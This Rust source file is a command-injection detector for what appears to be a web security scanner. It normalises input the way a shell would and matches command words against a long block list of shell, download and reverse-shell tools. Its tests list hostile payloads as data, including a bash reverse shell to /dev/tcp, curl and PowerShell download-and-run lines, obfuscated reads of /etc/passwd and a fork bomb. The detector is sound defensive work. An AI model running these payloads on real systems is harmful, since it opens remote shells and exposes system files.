//! OS command injection, read the way a shell reads it: the value is normalised the way the
//! shell would before running it (quotes and backslashes inside words removed, `${IFS}` as a
//! space, `$@` dropped), then every command position — value start, after `;`, `|`, `&`, a
//! newline, `$(`, a backtick or `{` — is checked for a known command word (optionally with a
//! path such as `/bin/` or a glob like `/???/`). A command at the very start of a value needs a
//! shell-looking argument too, so `cat food` or `ping me` stays quiet.

use aho_corasick::AhoCorasick;
use std::sync::OnceLock;

use super::prefilter::{lits, LitId, LitSet};
use super::words::{word_set, WordSet};
use super::{AttackType, Detector, Finding};
use crate::point::Leaf;

/// Commands attackers run first: reconnaissance, download, reverse shells, interpreters.
const COMMANDS: &[&str] = &[
    "cat",
    "ls",
    "id",
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "dash",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "lua",
    "ping",
    "nslookup",
    "dig",
    "host",
    "echo",
    "rm",
    "chmod",
    "chown",
    "kill",
    "killall",
    "ps",
    "netstat",
    "ifconfig",
    "ipconfig",
    "ip",
    "dir",
    "type",
    "net",
    "powershell",
    "pwsh",
    "cmd",
    "nohup",
    "sleep",
    "telnet",
    "ftp",
    "tftp",
    "xterm",
    "awk",
    "gawk",
    "sed",
    "find",
    "head",
    "tail",
    "more",
    "less",
    "env",
    "printenv",
    "export",
    "hostname",
    "systeminfo",
    "tasklist",
    "taskkill",
    "certutil",
    "bitsadmin",
    "wmic",
    "reg",
    "sc",
    "cp",
    "mv",
    "touch",
    "mkdir",
    "passwd",
    "useradd",
    "sudo",
    "su",
    "crontab",
    "base64",
    "xxd",
    "od",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "openssl",
    "socat",
    "ssh",
    "scp",
    "rsync",
    "mail",
    "sendmail",
    "vi",
    "vim",
    "nano",
    "grep",
    "egrep",
    "fgrep",
    "cut",
    "sort",
    "uniq",
    "wc",
    "tee",
    "xargs",
    "exec",
    "eval",
    "source",
    "alias",
    "time",
    "timeout",
    "nmap",
    "lsof",
    "pkill",
    "systemctl",
    "service",
    "mount",
    "dd",
    "strings",
    "file",
    "stat",
    "readlink",
    "tac",
    "nl",
    "rev",
    "diff",
    "cmp",
    "getent",
    "finger",
    "who",
    "w",
    "last",
    "uptime",
    "df",
    "du",
    "free",
    "lsb_release",
    "node",
    "java",
    "gcc",
    "cc",
    "make",
    "apt",
    "yum",
    "pip",
    "npm",
    "rundll32",
    "regsvr32",
    "mshta",
    "cscript",
    "wscript",
    "msiexec",
    "schtasks",
    "start",
    "call",
    "set",
    "ver",
    "vol",
    "whois",
    "traceroute",
    "tracert",
    "arp",
    "route",
    "fsockopen",
    "expr",
    "printf",
    "read",
    "shutdown",
    "reboot",
    "halt",
    "init",
    "chattr",
    "ln",
    "pwd",
    "sysctl",
    "dmesg",
    "iptables",
    "jobs",
    // Less common binaries that still run code, read files or open a shell (GTFOBins-style):
    // very common English words (`at`, `join`, `write`, `watch`…) are left out on purpose.
    "base32",
    "basenc",
    "cpulimit",
    "irb",
    "c89",
    "c99",
    "vi",
    "ex",
    "gdb",
    "aptitude",
    "lastlog",
    "htop",
    "perf",
    "busybox",
    "bsdtar",
    "adduser",
    "strace",
    "ltrace",
    "ansible",
    "ansible-playbook",
    "ansible-config",
    "ansible-galaxy",
    "ansible-console",
    "ansible-doc",
    "ansible-inventory",
    "apt-get",
    "dpkg",
    "rpm",
    "pkexec",
    "doas",
    "ionice",
    "chroot",
    "unshare",
    "nsenter",
    "tmux",
    "tclsh",
    "jrunscript",
    "jjs",
    "php-cgi",
    "ghci",
    "rlwrap",
    "run-parts",
    "start-stop-daemon",
    "stdbuf",
    "taskset",
    "tcsh",
    "nawk",
    "mawk",
    "busctl",
    "journalctl",
    "docker",
    "kubectl",
    "sqlite3",
    "smbclient",
    "tcpdump",
    "hexdump",
    "uuencode",
    "uudecode",
    "shred",
    "chgrp",
    "whereis",
    "gpg",
    "aria2c",
    "lwp-download",
    "lwp-request",
    "w3m",
    "lynx",
    "setsid",
    "usermod",
    "userdel",
    "groupadd",
    "visudo",
    "ssh-keygen",
    "iconv",
    "7z",
    "unrar",
    "csplit",
    "nroff",
    "emacs",
    "pdb",
    "ghc",
    "logsave",
    "xdotool",
    "zathura",
    // PowerShell cmdlets and their aliases.
    "iex",
    "iwr",
    "irm",
    "iwmi",
    "invoke-webrequest",
    "invoke-expression",
    "invoke-restmethod",
    "invoke-wmimethod",
    "invoke-command",
    "invoke-item",
    "start-process",
    "new-object",
    "get-content",
    "set-content",
    "get-childitem",
    "get-process",
    "get-wmiobject",
    "remove-item",
];

/// Commands that run the command after them (`time whoami`, `nohup sh -c …`).
const PREFIXES: &[&str] = &[
    "time", "strace", "ltrace", "nohup", "timeout", "sudo", "env", "busybox", "xargs", "exec",
    "doas", "stdbuf", "setsid", "ionice", "taskset", "chroot", "cpulimit",
];

/// Recon commands whose bare name is unambiguous even as a whole value.
const START_BARE: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "systeminfo",
    "tasklist",
    "printenv",
];

/// Commands that are an attack on their own at a command position, even without arguments.
const BARE: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "systeminfo",
    "tasklist",
    "ls",
    "pwd",
    "ps",
    "hostname",
    "dir",
    "ver",
    "printenv",
    "env",
    "set",
    "uptime",
    "who",
    "w",
];

fn commands() -> &'static WordSet {
    static SET: OnceLock<WordSet> = OnceLock::new();
    SET.get_or_init(|| word_set(COMMANDS))
}

fn normalize(lower: &str) -> std::borrow::Cow<'_, str> {
    // Nothing to undo without `$`, quotes or backslashes: the common case costs no allocation.
    if !lower.contains(['$', '\'', '"', '\\']) {
        return std::borrow::Cow::Borrowed(lower);
    }
    let s = lower.replace("${ifs}", " ").replace("$ifs", " ");
    let b = s.as_bytes();
    let word = |p: Option<&u8>| p.is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/');
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let prev = i.checked_sub(1).map(|p| &b[p]);
        // Expansions that yield nothing inside a word: `c$@at`, `c$*at`, `c$!at`, and unset
        // variables glued to a word (`cat$u /etc$u/passwd`, `una$$me`).
        if c == b'$' {
            let next = b.get(i + 1).copied();
            if matches!(
                next,
                Some(b'@' | b'*' | b'?' | b'!' | b'-' | b'_' | b'$' | b'#')
            ) || next.is_some_and(|n| n.is_ascii_digit())
            {
                i += 2;
                continue;
            }
            if word(prev) && next.is_some_and(|n| n.is_ascii_alphabetic()) {
                i += 1;
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                    i += 1;
                }
                continue;
            }
        }
        // `c'a't`, `c\at`, `'wh'oami`, `"time" who`: quotes and backslashes glued to a word
        // character vanish, as the shell removes them before running the word.
        if matches!(c, b'\'' | b'"' | b'\\')
            && (word(prev)
                || word(b.get(i + 1))
                || prev.is_some_and(|p| matches!(p, b'\'' | b'"' | b'\\')))
        {
            i += 1;
            continue;
        }
        let len = s[i..].chars().next().map_or(1, char::len_utf8);
        out.push_str(&s[i..i + len]);
        i += len;
    }
    std::borrow::Cow::Owned(out)
}

fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'-'
}

/// The command word starting at `i` (after an optional path prefix), with its end offset.
fn command_at(s: &str, i: usize) -> Option<(&'static str, usize)> {
    command_at_depth(s, i, 0)
}

fn command_at_depth(s: &str, mut i: usize, depth: usize) -> Option<(&'static str, usize)> {
    let b = s.as_bytes();
    // `+` too: a space in form encoding that survived as a literal.
    while i < b.len() && matches!(b[i], b' ' | b'\t' | b'(' | b'{' | b'!' | b'+') {
        i += 1;
    }
    // Path prefix: `/bin/`, `/usr/local/bin/`, `/???/`, `c:\windows\system32\`.
    let word_end = |from: usize| {
        from + b[from..]
            .iter()
            .take_while(|&&c| is_word(c) || c == b'?' || c == b'*' || c == b'[' || c == b']')
            .count()
    };
    let mut start = i;
    loop {
        let e = word_end(start);
        if b.get(e) == Some(&b'/') && e + 1 < b.len() && (e > start || start == i) {
            start = e + 1;
            continue;
        }
        break;
    }
    let mut end = word_end(start);
    // `python3.10`: a dotted version is part of the command word.
    while b.get(end) == Some(&b'.') && b.get(end + 1).is_some_and(u8::is_ascii_digit) {
        end = word_end(end + 1);
    }
    // `ping.exe`: the Windows executable suffix belongs to the word.
    if s[end..].starts_with(".exe") {
        end += 4;
    }
    let w = &s[start..end];
    if w.is_empty() {
        return None;
    }
    let stem = w.trim_end_matches(".exe");
    // `python3.10`, `gcc10.1`: a version glued to the name.
    let bare = stem.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    if let Some(c) = commands()
        .get(stem)
        .or_else(|| commands().get(bare).filter(|_| !bare.is_empty()))
    {
        // A prefix command hands over to the command it runs: `time whoami | sh`.
        if PREFIXES.contains(c) && depth < 2 {
            if let Some(inner) = command_at_depth(s, end, depth + 1) {
                return Some(inner);
            }
        }
        return Some((c, end));
    }
    if !w.bytes().any(|c| matches!(c, b'?' | b'*' | b'[')) {
        return None;
    }
    COMMANDS
        .iter()
        .find(|c| glob_matches(w, c))
        .map(|c| (*c, end))
}

/// `c?t`, `c*t`, `c[a]t` style globs against a command name.
fn glob_matches(pattern: &str, name: &str) -> bool {
    if !pattern.bytes().any(|c| matches!(c, b'?' | b'*' | b'[')) || pattern.len() < 2 {
        return false;
    }
    let cleaned: String = pattern
        .chars()
        .filter(|c| !matches!(c, '[' | ']'))
        .collect();
    let (p, n) = (cleaned.as_bytes(), name.as_bytes());
    if cleaned.contains('*') {
        return false;
    }
    p.len() == n.len()
        && p.iter().zip(n).all(|(a, b)| *a == b'?' || a == b)
        && p.iter().any(|c| *c != b'?')
}

/// Does what follows a command look like shell arguments?
/// How far past a command its arguments are read: enough for any real argument list, and it
/// keeps a value with thousands of separators linear rather than quadratic.
const ARGS_WINDOW: usize = 256;

fn shell_args(rest: &str) -> bool {
    let mut cut = rest.len().min(ARGS_WINDOW);
    while !rest.is_char_boundary(cut) {
        cut -= 1;
    }
    let rest = &rest[..cut];
    let r = rest.trim_start();
    if r.is_empty() {
        return false;
    }
    rest.starts_with([' ', '\t', '<', '>', '|', ';', '&'])
        && (r.starts_with(['/', '$', '|', '<', '&', ';', '`', '~', '%'])
            // `chmod +x`, `vim +silent`: plus-options.
            || r.starts_with('+') && r.as_bytes().get(1).is_some_and(u8::is_ascii_alphabetic)
            || r.starts_with('-')
                && r.as_bytes()
                    .get(1)
                    .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'-')
            || r.starts_with('>') && !r.starts_with("> ")
            || r.starts_with("./")
            || r.contains("/dev/")
            || r.contains("http://")
            || r.contains("https://")
            || r.as_bytes()
                .windows(3)
                .any(|w| w[0] == b' ' && w[1] == b'-' && w[2].is_ascii_alphabetic()))
}

/// Fragments that only a shell command line contains.
const STRONG: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "/bin/sh",
    "/bin/bash",
    "cmd.exe",
    "cmd /c",
    "powershell -",
    "%comspec%",
    "$(",
    "<(",
    ">(",
    "$((",
    "${ifs}",
    "$shell ",
    "${shell}",
];

pub struct Rce {
    strong: AhoCorasick,
    strong_gate: Vec<LitId>,
    /// cmd.exe `FOR [/D|/R|/L|/F ["opts"]] %v IN (set) DO command`: its own grammar, with
    /// no command word at the front.
    for_loop: regex::bytes::Regex,
    for_gate: Vec<LitId>,
    /// Other shell grammar with no command word up front, each behind a literal gate.
    grammar: Vec<(LitId, regex::bytes::Regex, &'static str)>,
}

/// cmd.exe `IF [/I] [NOT] EXIST|DEFINED|ERRORLEVEL x cmd` and `IF a==b cmd`; bash `alias a=…`;
/// the fork bomb / recursive function `f(){ f|f& };f`.
const GRAMMAR: &[(&str, &str, &str)] = &[
    (
        "if",
        r"(?:^|[\s;&|(])if\s+(?:/i\s+)?(?:not\s+)?(?:(?:exist|defined|errorlevel|cmdextversion)\s+\S+|\S+\s*(?:==+|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*\S+)\s+(?:\(|@?[a-z]+)",
        "cmd.exe if statement",
    ),
    (
        "alias",
        r"(?:^|[\s;&|])alias\s+(?:[+-][a-z]\s+)*[a-z0-9_-]+=",
        "shell alias definition",
    ),
    (
        "(",
        r"([a-z0-9_:.]+)\s*\(\s*\)\s*\{[^}]*\|[^}]*&[^}]*\}",
        "shell recursive function",
    ),
];

impl Rce {
    pub fn new() -> Self {
        Rce {
            strong: AhoCorasick::new(STRONG).expect("static pattern list builds"),
            strong_gate: lits(STRONG),
            for_loop: regex::bytes::Regex::new(
                r#"(?-u)(?:^|[\s;&|(])for\s+(?:/[dlrf]\s+|"[^"]*"\s+|[a-z]:\\\S*\s+)*%%?\S+\s+in\s*\([^)]*\)\s*do\b"#,
            )
            .expect("static pattern compiles"),
            for_gate: lits(&["for"]),
            grammar: GRAMMAR
                .iter()
                .map(|(gate, re, why)| {
                    let re = regex::bytes::Regex::new(&format!("(?-u){re}"))
                        .expect("static pattern compiles");
                    (lits(&[gate])[0], re, *why)
                })
                .collect(),
        }
    }

    fn analyse(&self, s: &str, present: &LitSet) -> Option<(usize, usize, &'static str)> {
        let strong = present.any(&self.strong_gate);
        let for_loop = present.any(&self.for_gate);
        for m in self.strong.find_iter(if strong { s } else { "" }) {
            let p = m.start();
            let construct = STRONG[m.pattern().as_usize()];
            if !matches!(construct, "$(" | "<(" | ">(") || command_at(s, m.end()).is_some() {
                return Some((p, (p + 48).min(s.len()), "shell construct"));
            }
        }
        if for_loop && s.contains('%') {
            if let Some(m) = self.for_loop.find(s.as_bytes()) {
                return Some((m.start(), m.end(), "cmd.exe for loop"));
            }
        }
        for (gate, re, why) in &self.grammar {
            if present.has(*gate) {
                if let Some(m) = re.find(s.as_bytes()) {
                    return Some((m.start(), m.end(), why));
                }
            }
        }
        let s = normalize(s);
        let s = s.as_ref();
        // `/bin/sleep 31`, `/usr/bin/id`: a known command spelled with its system directory.
        for (p, _) in s.match_indices("bin/") {
            let dir_ok = s[..p].ends_with("/s") || s[..p].ends_with('/');
            if dir_ok {
                let name: String = s[p + 4..]
                    .bytes()
                    .take_while(|&c| is_word(c))
                    .map(char::from)
                    .collect();
                if commands().contains(name.as_str()) {
                    return Some((p, (p + 48).min(s.len()), "command by system path"));
                }
            }
        }
        let b = s.as_bytes();
        // Value start: a command with shell-looking arguments, or a bare recon command.
        if let Some((cmd, end)) = command_at(s, 0) {
            let rest = &s[end..];
            // `time curl x`, `nohup whoami`: a prefix command handing over to another command
            // is two command words in a row, which prose does not produce.
            let prefixed = !PREFIXES.contains(&cmd)
                && s.split([' ', '\t'])
                    .next()
                    .is_some_and(|w| PREFIXES.contains(&w));
            if shell_args(rest) || prefixed || (START_BARE.contains(&cmd) && rest.trim().is_empty())
            {
                return Some((0, (end + 48).min(s.len()), "command with shell arguments"));
            }
        }
        // Counted once: per separator it made long values quadratic.
        let prose = b.iter().filter(|&&c| c == b' ').count() > 3;
        for i in 0..b.len() {
            let sep = match b[i] {
                b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' => i + 1,
                b'$' if b.get(i + 1) == Some(&b'(') => i + 2,
                b'{' if i == 0 || b[i - 1] == b'$' => continue,
                _ => continue,
            };
            // Markdown code spans in prose (`use `ls -la` to…`) are not command substitution.
            if b[i] == b'`' && i > 0 && b[i - 1] == b' ' && prose {
                continue;
            }
            // `&amp;`, `&&`, `||`: skip doubled separators; `&amp;` style text is not shell.
            let sep = if b.get(sep).is_some_and(|&c| c == b[i] && c != b'`') {
                sep + 1
            } else {
                sep
            };
            if b[i] == b'&'
                && b.get(sep).is_some_and(|c| c.is_ascii_alphabetic())
                && s[sep..]
                    .split(|c: char| !c.is_ascii_alphanumeric())
                    .next()
                    .is_some_and(|w| s[sep + w.len()..].starts_with(';'))
            {
                continue;
            }
            // `a=nc&&$a -nlvp 555`: a variable holding the command.
            if b.get(sep) == Some(&b'$') {
                let name_end = sep
                    + 1
                    + b[sep + 1..]
                        .iter()
                        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                        .count();
                if name_end > sep + 1 && shell_args(&s[name_end..]) {
                    return Some((i, (name_end + 48).min(s.len()), "variable as command"));
                }
            }
            if let Some((cmd, end)) = command_at(s, sep) {
                let rest = &s[end..];
                let closes = rest.is_empty()
                    || rest.starts_with('+') && !rest.starts_with("++")
                    || rest.starts_with([
                        ' ', '\t', ';', '|', '&', '`', ')', '\n', '<', '>', '}', ',',
                    ]);
                let ok = closes
                    && (BARE.contains(&cmd)
                        || shell_args(rest)
                        || matches!(b[i], b'`' | b'$' | b'\n')
                        || rest.is_empty()
                        || rest.starts_with([';', '|', '&', '`', ')']));
                if ok {
                    return Some((i, (end + 48).min(s.len()), "command after shell separator"));
                }
            }
        }
        None
    }
}

impl Detector for Rce {
    fn attack(&self) -> AttackType {
        AttackType::Rce
    }

    fn check(&self, leaf: &Leaf, present: &LitSet) -> Option<Finding> {
        let s = leaf.lower.as_str();
        if s.len() < 2 {
            return None;
        }
        self.analyse(s, present).map(|(a, b, reason)| Finding {
            at: a.min(s.len())..b.min(s.len()),
            reason,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(v: &str) -> bool {
        Rce::new()
            .analyse(&v.to_ascii_lowercase(), &LitSet::all())
            .is_some()
    }

    #[test]
    fn finds_command_injection() {
        for v in [
            "; cat /etc/passwd",
            "1|id",
            "x && whoami",
            "`uname -a`",
            "$(curl http://x/y.sh)",
            "127.0.0.1; ping -c 3 evil",
            "/bin/bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            "c'a't /etc/passwd",
            "x;/???/c?t /etc/passwd",
            "nohup sh -c whoami\n",
            "cat${IFS}/etc/passwd",
            "| dir c:\\",
            "Invoke-WebRequest http://example.com/x.ps1",
            ";iex (iwr http://10.0.0.1/x.ps1)",
            "for /f %a in ('dir /b') do echo %a",
            "una$$me -a",
            "cat$u /etc$u/passwd",
            "'wh'oami",
            "code=time whoami | sh",
            "<(cat file)",
            ";python3.10 -c 'import os'",
            "IF EXIST C:\\pagefile.sys (CMD) ELSE (CMD)",
            "if \"%var%\"==\"\" (SET var=default value)",
            "alias a=b",
            ":(){ :|:& };:",
            "time curl example.org",
            ";chmod +x evil.php",
            "a=nc&&$a -nlvp 555",
            "$SHELL -c \"echo hi\"",
            "| /bin/sleep 31 ;",
            "+|+dir+c:/",
            "ping.exe -n 31 127.0.0.1",
        ] {
            assert!(hit(v), "{v}");
        }
    }

    #[test]
    fn ignores_prose() {
        for v in [
            "cat food",
            "Tom & Jerry",
            "fish &amp; chips",
            "ping me later",
            "rock;paper;scissors",
            "id card number",
            "echo chamber",
            "a | b",
            "find the best deals",
            "R&D; sales",
            "for each item in (list) do nothing",
            "time flies like an arrow",
            "O'Brien's time",
            "price $5 or $10",
            "see (fig. 3)",
            "if it exists we go",
            "if (a == b) { run(); }",
            "an alias for bob",
            "time is money",
            "sudo is a program",
            "$ 5 and $a lot",
        ] {
            assert!(!hit(v), "{v}");
        }
    }
}
